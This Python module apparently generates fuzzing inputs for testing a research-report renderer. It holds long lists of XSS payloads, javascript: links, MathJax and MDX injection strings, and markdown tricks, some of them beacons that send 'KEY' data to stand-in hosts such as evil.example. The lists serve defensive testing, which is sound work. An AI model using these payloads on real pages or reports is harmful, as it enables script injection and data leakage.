"""Documents that try to act in a report: payloads in contexts, through all that a report prints from outside."""

import random
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass

from deep_research.phases.synthesis import SynthesizerInput
from deep_research.phases.synthesis.extractive_synthesizer import draft
from deep_research.report.render import finished
from deep_research.state import (
    ConfidenceLevel,
    Contradiction,
    DeepResearchPhase,
    Finding,
    Gap,
    Notice,
    Quote,
    Source,
)

SCHEMES = (
    "http", "https", "ftp", "mailto", "xmpp", "javascript", "data", "vbscript", "file", "tel", "ssh", "irc",
    "blob", "HTTP", "hTTps", "JavaScript",
)  # fmt: skip
HOSTS = (
    "evil.example", "evil.com", "evil.com:80", "KEY.evil.io", "evil", "xn--vil-ioa.com", "127.0.0.1", "[::1]",
)  # fmt: skip
TAGS = (
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/p.png?d=KEY'>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<a href='http://evil.example/?d=KEY'>more</a>",
    '<a href="javascript:alert(1)">more</a>', "<div onclick=alert(1)>x</div>",
    "<div markdown=1>*x* <b>y</b></div>", "</p><style>@import '//evil.example'</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>",
    "<form action=//evil.example><input name=x autofocus onfocus=alert(1)>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<!-- hidden -->", "<!-- never closed",
    "<!--> <script>alert(1)</script> -->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>",
    "<?xml version='1.0'?><x/>", "<!DOCTYPE html>", "<x-y z=1>", "<b\nonmouseover=alert(1)>x</b>",
    "<\x02script>alert(1)</script>", "<\x00img src=x onerror=alert(1)>", "<\u200bscript>alert(1)</script>",
    "＜script＞alert(1)＜/script＞", "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;script&amp;gt;alert(1)", "&LT;script>alert(1)&LT;/script>", "&#60script>alert(1)",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x02amp\x03lt;script>", "md5-00000000000000000000000000000000",
)  # fmt: skip
# What mathematics renderers and MDX act on.
FORMULAS_AND_SCRIPTS = (
    r"$\href{{{url}}}{{x}}$", r"$$\href{{{url}}}{{x}}$$", "$`\\href{{{url}}}{{x}}`$",
    r"\(\href{{{url}}}{{x}}\)", r"\\(\href{{{url}}}{{x}}\\)", r"\[\href{{{url}}}{{x}}\]",
    r"\\[\href{{{url}}}{{x}}\\]", r"\begin{{equation}}\href{{{url}}}{{x}}\end{{equation}}",
    r"$\style{{background:url({url})}}{{x}}$", r"$x^2 \url{{http:&#47;/{host}}}$", r"$\\href{{{url}}}{{x}}$",
    r"$\class{{a}}{{\cssId{{b}}{{x}}}}\require{{html}}\def\y{{z}}$", r"US$ 5, `\href{{{url}}}{{x}}` and 7$",
    "$\n`\\href{{{url}}}{{x}}`\n$", "```math\n\\href{{{url}}}{{x}}\n```",
    '```mermaid\ngraph TD; a; click a href "{url}"\n```', "x{{alert(1)}}", "{{globalThis.alert(1)}}",
    "{{/* {url} */}}", "export const x = alert(1)", "\nexport default () => alert(1)\n",
    "import x from '{url}'", "\n\nimport '{url}'\n\n",
)  # fmt: skip
LINKS = (
    "[more]({url})", "[more](<{url}>)", '[more]({url} "title")', "[more](\n{url}\n)", "[mo\nre]({url})",
    "[mo[re]]({url})", "[mo]re]({url})", "[`more`]({url})", "[**more**]({url})",
    "[ok](https://ok.example/page)({url})", "[a](https://ok.example/page)[b]({url})",
    "[[x](https://ok.example/page)]({url})", "[https://ok.example/page]({url})",
    "[{url}](https://ok.example/page)", "[<img src=x>](https://ok.example/page)",
    '[x](https://ok.example/page "{url}")', "[x](https://ok.example/page){{onclick=alert(1)}}",
    "[x](https://ok.example/page{url})", "[!]({url})[x](https://ok.example/page)",
    "[x\\]({url})[x](https://ok.example/page)", "[x\\]({url})<https://ok.example/page>", "[x\\]({url})`y`",
    "![chart]({url})", "![two\nlines]({url})", "![chart](https://ok.example/page)",
    "[![chart]({url})]({url})", "!\\[chart]({url})", "\\![chart]({url})", "\\[more]({url})",
    "\\\\[more]({url})", "\\\\[more\\\\]({url})", "[more\\]({url})", "[more] ({url})",
    "[more][r]\n\n[r]: {url}", "![more][r]\n\n[r]: {url}", "[r]\n\n[r]: <{url}> 'title'",
    "[r][]\n\n  [r]:\n  {url}", "[r]\n\n> [r]: {url}", "[r]\n\n- [r]: {url}", "[r\ns]\n\n[r\ns]: {url}",
    "[1]\n\n[1]: {url}", "[^1]\n\n[^1]: {url} <b>x</b>", "x[^n]\n\n[^n]:\n    <script>alert(1)</script>",
    "^[inline {url}]", "[[{url}]]", "*[HTML]: <b onclick=alert(1)>\n\nHTML", "<{url}>", "\\<{url}>", "<{url}",
    "{url}>", "({url})", "{url}.", "*{url}*", "**{url}**", "_{url}_", "~~{url}~~", "`{url}`", "`` {url} ``",
    '"{url}"', "{url}{url}", "{url},{url};{url}", "x{url}", "0{url}", "ä{url}", "_{url}", "){url}", "\\{url}",
    "\u200b{url}", "😀{url}",
)  # fmt: skip
BARE = (
    "{url}", "http://http://{host}/?d=KEY", "ftp://ftp://{host}", "https://ok.example/page@{host}",
    "https://ok.example/page,http://{host}", "https://ok.example/page&lt;http://{host}",
    "https://ok.example/page*http://{host}*", "https://ok.example@{host}/page",
    "<https://ok.example/page\x01.{host}>", "//{host}/?d=KEY", "///{host}/?d=KEY", "////{host}/?d=KEY",
    "{host}/?d=KEY", "{host}", "www.{host}/x", "_www.{host}_", "www.www.{host}", "WWW.{host}",
    "wwwwww.{host}", "www", "www&#46;{host}", "www\\.{host}", "ww\\w.{host}", "http&colon;//{host}",
    "http&#58;//{host}", "http:&sol;/{host}", "http:\\//{host}", "http:/\\/{host}", "h&#116;tp://{host}",
    "http:&#10;//{host}", "http://{host}&#47;x", "[x](javascript&colon;alert(1))",
    "[x](java&#115;cript:alert(1))", "[x](java\tscript:alert(1))", "[x](javascript:\nalert(1))",
    "<javascript&colon;alert(1)>", "me@{host}", "me.you+x-y_z@{host}", "me\\@{host}", "me&#64;{host}",
    "me&commat;{host}", "m&#101;@{host}", "_me@{host}_", "**me@{host}**", "äme@{host}", "-@{host}",
    "me@me@{host}", "xmpp:me@{host}/x", "mailto:me@{host}", "mailto:mailto:me@{host}", "<me@{host}>",
    "<mailto:me@{host}>", "`code`me@{host}`code`", "https://ok.example/page me@{host}",
    "http://user:word@{host}/", "\\me@{host}", "me@{host}\\", "me@\n{host}", "<\nme@{host}>",
    "<-me\n@\n{host}>", "<5@\n[::1]>",
)  # fmt: skip
SHAPES = (
    "# x {{ onclick=alert(1) }}", "*x*{{: onclick=alert(1) }}", "`x`{{ onmouseover=alert(1) style=x }}",
    "x\n{{: #id .cls onclick=alert(1) }}", "- x {{ onclick=alert(1) }}",
    "| a |\n|---|\n| b {{ onclick=alert(1) }} |", "**x**\\{{ onclick=alert(1) }}",
    "**x**\\\\{{ onclick=alert(1) }}", "```{{ .html onclick=alert(1) }}\nx\n```",
    "``` html onclick=alert(1)\n{tag}\n```", "```\n{tag}\n```", "~~~\n{tag}\n~~~", "```\n{tag}",
    "````\n```\n{tag}\n````", "```\nx\n\n{tag}\n\ny\n```", "```html\n{tag}\n```\n{tag}",
    "x\n```\n{tag}\n```\ny", "- x\n\n  ```\n  {tag}\n  ```\n", "- \n\n```\n{tag}\n```",
    "1. \n```\n{tag}\n```", "1. x\n    ```\n    {tag}\n\n    {tag}\n    ```\n", "> ```\n> {tag}\n> ```",
    "   ```\n{tag}\n   ```", "\t```\n\t{tag}\n\t```", "```\n[r]: http://evil.example\n```\n\n[r]",
    "```\n> [r]: http://evil.example\n```\n\n[r]", "```\nx\n\n1. - [r]:\nhttp://evil.example\n```\n\n[r]",
    "```\n``` x\n{tag}\n```", "`{tag}`", "`` {tag} ``", "``` {tag} ```", "`x\n{tag}`", "`x` {tag} `y`",
    "\\`{tag}`", "\\\\`{tag}`", "`\\`{tag}`", "`a`` {tag} `", "`a``b` {tag} `c``d`", "`a|{tag}|b`",
    "| a |\n|---|\n| `x | {tag}` |", "| a | b |\n|---|---|\n| `x \\| {tag}` | y |", "    {tag}",
    "x\n    {tag}", "- x\n\n    {tag}", "- x\n\n        {tag}", "1. x\n\n   - y\n\n         {tag}",
    "term\n: {tag}", "$${tag}$$", "\\({tag}\\)", "\x0c{tag}", "x\u2028{tag}\u2029y", "x\r{tag}\ry", "\\{tag}",
    "\\\\{tag}", "\\\\\\{tag}", "{tag}\\", "[x]{tag}(http://evil.example)", "[find-000000000001]{tag}",
    "<[find-ffffffffffff]img src=x onerror=alert(1)>", "< [find-ffffffffffff]img src=x onerror=alert(1)>",
    "http:/[find-ffffffffffff]/evil.example",
    "[find-000000000001](http://evil.example) [find-000000000001]: http://evil.example",
    "find-00000000000\x001 {tag}",
)  # fmt: skip
CONTEXTS: Mapping[str, str] = {
    "alone": "{p}", "heading": "## {p}", "setext": "{p}\n===", "item": "- {p}",
    "nested item": "1. x\n    - {p}", "cell": "| a | b |\n| --- | ---: |\n| {p} | x |", "quote": "> {p}",
    "nested quote": "> > x\n> - {p}", "code": "`{p}`", "double code": "`` {p} ``", "fence": "```\n{p}\n```",
    "fence of a language": "x\n\n```html\nx\n\n{p}\n```\n\ny", "tilde fence": "~~~\n{p}\n~~~",
    "fence in an item": "- x\n\n  ```\n  {p}\n  ```", "open fence": "```\n{p}", "indented": "x\n\n    {p}",
    "emphasis": "*x **{p}** y*", "underlined": "_x __{p}__ y_", "struck": "~~{p}~~",
    "link text": "[{p}](https://ok.example/page)", "target": "[x]({p})",
    "title": '[x](https://ok.example/page "{p}")', "brackets": "[{p}]", "round brackets": "({p})",
    "braces": "{{{p}}}", "after a digit": "0{p}", "after an underscore": "_{p}", "after a letter": "ä{p}",
    "after a backslash": "\\{p}", "after backslashes": "\\\\{p}", "after many": "\\\\\\\\\\{p}",
    "after a backtick": "x ` {p}", "between backticks": "`x` {p} `y`", "after a bang": "!{p}",
    "after an angle": "<{p}>", "after a small number": "<5{p}", "after an entity": "&lt;{p}&gt;",
    "after a mark": "It is so [find-000000000001]{p}", "before a mark": "{p}[find-000000000001] so.",
    "before a colon": "{p}: x", "line": "x\n{p}\ny", "broken line": "x  \n{p}  \ny",
    "definition": "[r]: {p}\n\n[r]", "footnote": "x[^1]\n\n[^1]: {p}", "abbreviation": "*[x]: {p}\n\nx",
    "term": "x\n: {p}", "comment": "--> {p} <!--", "after html": "</div>\n{p}", "wide": "＜{p}＞",
}  # fmt: skip
# What payloads are made of, for what no list has.
PIECES = (
    "[", "]", "(", ")", "<", ">", "!", "\\", ":", "`", "``", "\n", "\n\n", "\r", "> ", "- ", "1. ", " ", "x",
    '"', "|", "&lt;", "&amp;", "&#64;", "&colon;", "@", "me@", "a@b.com", "~~", "*", "_", "**", "{", "}",
    "{: onclick=x}", "/", "//", "```", "\n\n```\n", "\n```\n\n", "```py\n", "~~~", "\n~~~\n", "    ",
    "\n    ", "\n- ", "\n> ", "\n1. ", "\t", "\0", "[r]: ", "![r]", "[r]", "](", "]:", "[^1]", "[^1]:",
    "*[x]:", "<img src=", "<!--", "</a>", "<b ", "onclick=a>", "<5", "<-", "www", "www.", ".evil.example",
    "evil.com", ".com", "http:", "http://evil.example/p", "//evil.example/p", "`<script>`", "`a|b`", "\\`",
    "    <script>x</script>\n", "| a | b |\n|---|---|\n", "[x](", "javascript:alert(1))",
    "[find-000000000001]", "[find-ffffffffffff]", "find-000000000001", "[1]: ", "[1]",
    "https://ok.example/page", "[a](https://ok.example/page)", "<https://ok.example/page>",
)  # fmt: skip
# What a page of one line has around it.
SAID: Mapping[str, str] = {
    "alone": "{p}", "in a sentence": "The lamp of the harbour {p} was lit in 1874.",
    "at the end": "The lamp of the harbour was lit in 1874 by {p}",
    "code": "Type `{p}` to light the lamp of the harbour.",
    "a stray backtick": "The ` of the lamp {p} was lit ` in 1874.",
    "a cell": "Lamp: {p}; Lit: 1874; Height: 31 metres", "an item": "- {p}", "a heading": "# {p}",
    "a number": "15. {p}", "a fence": "``` {p} ```", "a mark": "[1]: {p} [find-000000000001] [^1]",
    "stars": "**{p}** _{p}_", "backslashes": "\\{p}\\",
}  # fmt: skip
OK = (
    "https://ok.example/page", "https://ok.example/a_(b)?x=1&y=2#z",
    "https://ok.example/a b'c\"d<e>*f*[g]{h}|ü",
)  # fmt: skip


def payload(rng: random.Random) -> str:
    """Something that acts, or leads to where no source is."""
    host = rng.choice(HOSTS)
    address = f"{rng.choice(SCHEMES)}:{rng.choice(['//', '', '/', '///'])}{host}/?d=KEY"
    url = rng.choice([address, f"//{host}/x", "javascript:alert(1)"])
    kind = rng.choice((TAGS, LINKS, BARE, FORMULAS_AND_SCRIPTS, SHAPES))
    made = rng.choice(kind)
    if kind is not TAGS:
        made = made.format(url=url, host=host, tag=rng.choice(TAGS))
    return _bent(made, rng) if rng.random() < 0.35 else made


ODD = (
    "\0", "\x02", "\x03", "\u200b", "\u2028", "\r", "\t", "\n", "\n\n", "\x0c", "\xa0", "\\", "`", "\x85",
    "\ufeff",
)  # fmt: skip


def _bent(text: str, rng: random.Random) -> str:
    """A text with something in it put otherwise."""
    at, odd = rng.randrange(len(text)), rng.choice(ODD)
    before, here, after = text[:at], text[at], text[at + 1 :]
    bent = (odd + here, f"&#{ord(here)};", f"&#x{ord(here):x};", here.swapcase(), odd, f"\\{here}")
    return rng.choice([*(f"{before}{each}{after}" for each in bent), text * 2, text[at:]])


@dataclass(frozen=True)
class Document:
    """A report, the addresses of its sources, and what it was made of."""

    report: str
    addresses: tuple[str, ...]
    made_of: str


def _source(number: int, **fields: object) -> Source:
    told = {"title": "Lamps of the harbour", "url": OK[number % len(OK)]} | fields
    return Source(id=f"src-{number:012x}", sub_query_id="subq-1", **told)


def _quote(number: int, text: str) -> Quote:
    return Quote(source_id=f"src-{number:012x}", quote=text, start=0, end=len(text), content_hash="h")


def _finding(number: int, content: str, *shown: str, **fields: object) -> Finding:
    quotes = tuple(_quote(number, text) for text in (content, *shown))
    told = {
        "relevance": 1 - number / 50,
        "confidence": ConfidenceLevel.MEDIUM,
        "sub_query_id": "subq-1",
    } | fields
    known = {"content": content, "source_ids": (quotes[0].source_id,), "quotes": quotes}
    return Finding(id=f"find-{number:012x}", **known, **told)


def _said(rng: random.Random) -> str:
    return rng.choice([*SAID.values()]).format(p=payload(rng))


def _report(draft: str, findings: Sequence[Finding], sources: Sequence[Source]) -> str:
    report, *_ = finished(draft, findings, sources, writer="w")
    return report


def _addresses(sources: Sequence[Source]) -> tuple[str, ...]:
    return tuple(source.url for source in sources if source.url)


def in_draft(rng: random.Random) -> Document:
    """What a model wrote."""
    parts = [rng.choice([*CONTEXTS.values()]).format(p=payload(rng)) for _ in range(rng.randint(1, 4))]
    text = rng.choice(["\n\n", "\n\n", "\n", " ", ""]).join(parts)
    draft = f"# Lamps\n\n## Summary\n\n{text}\n\nIt was so [find-000000000001]."
    return Document(_report(draft, [_finding(1, "x")], [_source(1), _source(2)]), OK, text)


def in_pieces(rng: random.Random) -> Document:
    """A draft, a title and an address of pieces."""
    count = rng.randint(1, 30)
    text = "".join(rng.choice(PIECES) if rng.random() < 0.97 else payload(rng) for _ in range(count))
    titled, placed = _source(0, title=text), _source(0, url=text)
    drafts = {text: titled, CITED: titled, f"{CITED} See [a]({text}) and <{text}>.": placed}
    reports = [_report(draft, [_finding(0, "x")], [source]) for draft, source in drafts.items()]
    return Document("\n\n".join(reports), (*OK, text), text)


CITED = "It was so [find-000000000000]."


def in_sources(rng: random.Random) -> Document:
    """What is known of sources: titles, addresses, authors, journals, pages that could not be read."""
    works = {name: _said(rng) for name in ("author", "venue", "unread")} | {"read": "abstract"}
    sources = [
        _source(1, title=_said(rng)),
        _source(2, url=_said(rng)),
        _source(3, url=f"https://ok.example/{payload(rng)}"),
        _source(4, metadata=works),
        _source(5, title=_said(rng), url=f"{_lines(_said(rng))}.md"),
        _source(6, pages=(0,), metadata={"page_labels": _lines(_said(rng))}),
    ]
    findings = [_finding(n, f"The lamp number {n} was lit in 187{n}.") for n in range(1, 7)]
    marks = " ".join(f"[{finding.id}]" for finding in findings)
    text = f"See {marks}, [a]({sources[2].url}), <{sources[1].url}> and {sources[2].url}."
    made_of = repr([source.model_dump() for source in sources])
    return Document(_report(text, findings, sources), _addresses(sources), made_of)


def _lines(text: str) -> str:
    return " ".join(text.split()) or "x"


def in_texts(rng: random.Random) -> Document:
    """What texts and searches say, told by an agent without a model."""
    contents = [_said(rng) for _ in range(rng.randint(1, 4))]
    shown = [f"```html\n{payload(rng)}\n```"] if rng.random() < 0.3 else []
    findings = [
        _finding(n, text, *(shown if n == 1 else ()), category=_said(rng) if rng.random() < 0.3 else None)
        for n, text in enumerate(contents, 1)
    ]
    sources = [_source(n, title=_said(rng)) for n in range(1, len(findings) + 1)]
    pair = tuple(finding.id for finding in findings[:2])
    conflicts = (Contradiction(id="c-1", description=_said(rng), finding_ids=pair),)
    handoff = SynthesizerInput(
        research_id="deepres-000000000000",
        iteration=1,
        original_query=rng.choice(["How is the lamp lit?", "lamps", "When was the lamp lit?", _said(rng)]),
        current_phase=DeepResearchPhase.SYNTHESIS,
        max_iterations=3,
        finding_count=len(findings),
        gap_count=1,
        has_research_brief=False,
        findings=tuple(findings),
        sources=tuple(sources),
        gaps=(Gap(id="gap-1", description=_said(rng)),),
        notices=(Notice(name="sources", message=_said(rng)),),
        contradictions=conflicts if len(pair) == 2 else (),
    )
    return Document(_report(draft(handoff), findings, sources), _addresses(sources), repr(contents))


CHANNELS: tuple[Callable[[random.Random], Document], ...] = (
    in_draft,
    in_draft,
    in_pieces,
    in_sources,
    in_texts,
)


def documents(seed: int, count: int) -> Iterator[Document]:
    rng = random.Random(seed)
    for number in range(count):
        yield CHANNELS[number % len(CHANNELS)](rng)
